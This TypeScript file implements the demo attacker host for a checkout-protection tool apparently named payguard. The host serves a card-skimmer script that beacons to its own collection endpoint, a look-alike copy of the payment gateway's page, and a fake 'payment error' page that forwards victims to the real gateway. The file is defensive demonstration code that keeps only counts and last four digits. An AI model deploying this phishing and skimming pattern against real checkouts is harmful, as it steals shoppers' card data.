/**
 * The demo attacker host: a look-alike of the payment gateway, the skimmer script, and the
 * endpoint skimmed cards are beaconed to. Run direct (without payguard) it shows that each
 * tampered checkout really steals the card; its home page counts what it caught.
 *
 * It keeps only a count and the last four digits (what a receipt shows), never a card number.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { escapeHtml, readForm, sendHtml, sendStatus, startSite, type RunningSite } from './http.js';
import type { ListenAddress } from '../listen.js';
import { amountOf, hostedPaymentPage } from './gateway.js';
import { GATEWAY_BRAND, layout } from './layout.js';
import { skimmerSource } from './skimmer.js';

export interface AttackerOptions {
  readonly listen: ListenAddress;
  /** The real gateway, where the fake form forwards its victims (the 2019 pattern). */
  readonly gatewayOrigin: string;
}

export interface Loot {
  /** Card forms captured, by the fake form or a skimmer. */
  captured: number;
  /** Last four digits of the most recent captures, newest first (at most 10). */
  readonly lastFour: string[];
}

export interface RunningAttacker extends RunningSite {
  readonly loot: Loot;
}

export async function startAttacker(options: AttackerOptions): Promise<RunningAttacker> {
  const loot: Loot = { captured: 0, lastFour: [] };
  const holder: { origin?: string } = {};
  const site = await startSite(options.listen, (req, res) => {
    void answer(options, holder.origin!, loot, req, res).catch((err: unknown) => {
      if (!res.headersSent) sendHtml(res, 500, `<!doctype html><p>${escapeHtml(String(err))}`);
    });
  });
  holder.origin = site.url;
  return { ...site, loot };
}

async function answer(
  options: AttackerOptions,
  ownOrigin: string,
  loot: Loot,
  req: IncomingMessage,
  res: ServerResponse,
): Promise<void> {
  const url = new URL(req.url ?? '/', 'http://attacker.invalid');
  const read = req.method === 'GET' || req.method === 'HEAD';
  if (read && url.pathname === '/skimmer.js') {
    const body = Buffer.from(skimmerSource(`${ownOrigin}/collect`), 'utf8');
    res.writeHead(200, { 'Content-Type': 'text/javascript; charset=utf-8', 'Content-Length': body.length, 'Cache-Control': 'no-store' });
    res.end(req.method === 'HEAD' ? undefined : body);
    return;
  }
  if (req.method === 'POST' && url.pathname === '/collect') {
    capture(loot, await readForm(req));
    return sendStatus(res, 204);
  }
  if (read && url.pathname === '/pay') {
    // The look-alike: the gateway's own markup and colours, posting here instead.
    return sendHtml(res, 200, hostedPaymentPage(GATEWAY_BRAND, '/pay', amountOf(url.searchParams)));
  }
  if (req.method === 'POST' && url.pathname === '/pay') {
    const form = await readForm(req);
    capture(loot, form);
    return sendHtml(res, 200, forwardPage(options.gatewayOrigin, amountOf(form)));
  }
  if (read && url.pathname === '/') return sendHtml(res, 200, lootPage(loot));
  sendHtml(res, 404, '<!doctype html><title>Not found</title><p>Not found');
}

function capture(loot: Loot, form: URLSearchParams): void {
  const digits = (form.get('card') ?? '').replace(/\D/g, '');
  if (digits.length < 12) return;
  loot.captured++;
  loot.lastFour.unshift(digits.slice(-4));
  loot.lastFour.length = Math.min(loot.lastFour.length, 10);
}

/**
 * What the 2019 fake form did after taking the card: an error message, then on to the real
 * gateway, where the customer pays again and nothing looks wrong.
 */
function forwardPage(gatewayOrigin: string, amount: string): string {
  const target = `${gatewayOrigin}/pay${amount ? `?amount=${amount}` : ''}`;
  return layout(
    GATEWAY_BRAND,
    'Payment error',
    `<h1>An error occurred</h1>
<p>We could not process your card. Please enter your card details again.</p>
<p><a href="${escapeHtml(target)}">Continue</a> (you will be forwarded in 3 seconds)</p>`,
    `<meta http-equiv="refresh" content="3; url=${escapeHtml(target)}">\n`,
  );
}

function lootPage(loot: Loot): string {
  const recent = loot.lastFour.length ? `<p>Most recent: ${loot.lastFour.map((d) => `•••• ${escapeHtml(d)}`).join(', ')}</p>` : '';
  return layout(
    { name: 'Attacker (demo look-alike host)', colour: '#333' },
    'Loot',
    `<h1>Cards captured: ${loot.captured}</h1>
${recent}
<p class="alarm">This is the demo attacker. Every capture here is a card that reached a tampered checkout without payguard in front of it. (Demo: only a count and the last four digits are kept.)</p>`,
  );
}
